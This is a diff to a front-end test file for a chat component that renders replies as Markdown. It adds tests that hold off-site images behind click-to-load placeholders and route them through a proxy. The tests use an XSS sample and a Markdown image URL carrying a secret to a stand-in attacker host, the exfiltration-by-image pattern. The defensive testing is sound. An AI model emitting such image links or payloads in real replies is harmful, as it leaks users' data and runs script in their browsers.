@@ -1,7 +1,13 @@
 import '../../test/dom-setup.ts';
-import { render, waitFor } from '@testing-library/react';
-import { describe, expect, it } from 'vitest';
+import { fireEvent, render, screen, waitFor } from '@testing-library/react';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { initI18n, loadFullCatalogue } from '../i18n/i18n.ts';
 import { MarkdownReply } from './markdown-reply.tsx';
+
+beforeAll(async () => {
+  await initI18n('en-US');
+  await loadFullCatalogue();
+});
 
 const rendered = (text: string) => render(<MarkdownReply text={text} />).container;
 
@@ -42,5 +48,50 @@ describe('a reply as Markdown', () => {
     const page = rendered('<img src=x onerror="alert(1)"> <script>alert(2)</script>');
     expect(page.querySelector('img')).toBeNull();
     expect(page.querySelector('script')).toBeNull();
+  });
+
+  it('keeps an image from another site behind a placeholder naming its host until it is clicked', () => {
+    const page = rendered(
+      'Look: ![chart](https://attacker.example/p.png?secret=s3cr3t) and ![](https://cdn.example/b.png)',
+    );
+    expect(page.querySelector('img')).toBeNull();
+    expect(page.innerHTML).not.toContain('attacker.example/p.png');
+    const [chart, other] = screen.getAllByRole('button');
+    expect(chart?.textContent).toContain('chart');
+    expect(chart?.textContent).toContain('Load image from attacker.example');
+
+    fireEvent.click(chart as HTMLElement);
+    const images = page.querySelectorAll('img');
+    expect(images).toHaveLength(1);
+    expect(images[0]?.getAttribute('src')).toBe(
+      `/api/chat/image-proxy?url=${encodeURIComponent('https://attacker.example/p.png?secret=s3cr3t')}`,
+    );
+    // Each image waits for its own click.
+    expect(other?.isConnected).toBe(true);
+  });
+
+  it('does not load our own image proxy by itself either', () => {
+    const page = rendered('![](/api/chat/image-proxy?url=https%3A%2F%2Fattacker.example%2F%3Fs%3D1)');
+    expect(page.querySelector('img')).toBeNull();
+  });
+
+  it('loads our own uploads as before', () => {
+    const page = rendered(
+      `![photo](/api/upload/files/abcdefghijklmnopqrstuv.png) ![abs](${window.location.origin}/api/upload/files/bcdefghijklmnopqrstuvw.jpg)`,
+    );
+    const sources = [...page.querySelectorAll('img')].map((img) => img.getAttribute('src'));
+    expect(sources).toEqual([
+      '/api/upload/files/abcdefghijklmnopqrstuv.png',
+      `${window.location.origin}/api/upload/files/bcdefghijklmnopqrstuvw.jpg`,
+    ]);
+  });
+
+  it('offers the original when the proxy cannot load the image', async () => {
+    const page = rendered('![x](https://gone.example/x.png)');
+    fireEvent.click(screen.getByRole('button'));
+    fireEvent.error(page.querySelector('img') as HTMLImageElement);
+    const link = await screen.findByRole('link');
+    expect(link.getAttribute('href')).toBe('https://gone.example/x.png');
+    expect(link.getAttribute('rel')).toContain('noreferrer');
   });
 });
